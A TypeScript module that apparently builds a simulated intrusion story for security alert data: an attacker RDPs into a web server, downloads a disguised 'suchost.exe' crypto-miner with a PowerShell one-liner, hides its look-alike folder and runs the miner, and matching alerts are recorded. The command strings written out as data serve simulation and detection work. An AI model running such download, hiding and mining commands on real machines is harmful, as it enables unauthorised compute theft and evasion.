/**
 * Story 1 — a masquerading crypto-miner on the internet-facing web server. An attacker RDPs in from the
 * internet with the server's local admin account, hides a folder `c:\w!ndows\system32`, drops `suchost.exe`
 * (one letter from svchost.exe) there and starts it from a command prompt several times as it keeps dying.
 */

import { moneroWallet, payloadDomain } from './attack-payloads.js';
import type { Identity } from './identities.js';
import type { ProcessRef } from './process-ref.js';
import { publicIp } from './public-addresses.js';
import type { StoryStage } from './story-stage.js';
import { openCommandPrompt } from './user-sessions.js';
import { powershellImage, sys32 } from './windows-paths.js';

const minerImage = 'C:\\w!ndows\\system32\\suchost.exe';

const remediationSteps = [
  '1. Escalate the alert to the information security team.',
  '2. Review the process tree and the logon session that started the process.',
  '3. Terminate the process and delete the file if it is not legitimate.',
  '4. Reset the credentials of the account used and block the source address.',
];

/** Plants the miner on WEB01 on the evening of `dayStart`. */
export function plantCryptoMiner(stage: StoryStage, dayStart: number): void {
  const { writer: w, random } = stage;
  const ids = stage.on('WEB01');
  const { host } = ids;
  // A local account: its SID is the machine's own domain, not CONTOSO's.
  const webadmin: Identity = {
    name: 'webadmin',
    domain: host.name,
    sid: `S-1-5-21-${random.int(1e9, 4e9)}-${random.int(1e9, 4e9)}-${random.int(1e9, 4e9)}-1001`,
    accountType: 'User',
  };
  const attackerIp = publicIp(random);
  const start = stage.timeOn(dayStart, 19, 22);
  // RDP clients always report a machine name: here a fresh VM's default one.
  const attackerBox = `DESKTOP-${random.hex(7).toUpperCase()}`;
  const session = stage.remoteSession(ids, webadmin, start, 4 * 3_600_000, { ip: attackerIp, name: attackerBox });
  let t = session.shell.createdMs + random.int(40_000, 120_000);
  const cmd = openCommandPrompt(w, ids, session, t, true);
  const typed = (image: string, command: string): ProcessRef => {
    t += random.int(8_000, 60_000);
    return w.spawn(ids, cmd, t, image, command);
  };
  typed(`${sys32}\\whoami.exe`, 'whoami  /priv');
  typed(`${sys32}\\systeminfo.exe`, 'systeminfo');
  const url = `http://${payloadDomain(random)}/x/suchost.exe`;
  typed(
    powershellImage,
    `powershell  -nop -c "(New-Object Net.WebClient).DownloadFile('${url}','c:\\w!ndows\\system32\\suchost.exe')"`,
  );
  typed(`${sys32}\\attrib.exe`, 'attrib  +h +s "c:\\w!ndows"');
  const minerCommand = `c:\\w!ndows\\system32\\suchost.exe -a cryptonight -o stratum+tcp://pool.supportxmr.com:3333 -u ${moneroWallet(random)} -p x -t 4`;
  const runs: ProcessRef[] = [];
  const runCount = random.int(4, 6);
  for (let i = 0; i < runCount; i++) {
    const run = typed(minerImage, minerCommand);
    w.conhost(ids, run, t + 25);
    runs.push(run);
    t += random.int(5, 25) * 60_000;
  }
  const first = runs[0] as ProcessRef;
  const later = runs[2] as ProcessRef;
  const common = { host, parent: cmd, sessionStartMs: start, remediation: remediationSteps } as const;
  stage.recordProcessAlert(
    {
      ...common,
      process: first,
      displayName: 'Digital currency mining related behavior detected',
      severity: 'High',
      description: `Analysis of host data on ${host.name} detected the execution of a process or command normally associated with digital currency mining.`,
      tactics: 'Impact',
      techniques: ['T1496'],
      more: (e) => e.ip(attackerIp),
    },
    {
      name: 'crypto-miner',
      summary: `webadmin RDP from ${attackerIp}; cmd.exe starts ${minerImage} (masquerading svchost) ${runCount} times, mining to pool.supportxmr.com:3333`,
    },
  );
  stage.recordProcessAlert(
    {
      ...common,
      process: later,
      displayName: 'Executable found running from a suspicious location',
      severity: 'Medium',
      description: `Analysis of host data detected an executable file on ${host.name} that is running from a location in common with known suspicious files. This executable could either be legitimate activity, or an indication of a compromised host.`,
      tactics: 'DefenseEvasion',
      techniques: ['T1036.005'],
    },
    {
      name: 'crypto-miner/suspicious-location',
      summary: `the same miner restarted from c:\\w!ndows\\system32 (run 3 of ${runCount})`,
    },
  );
}
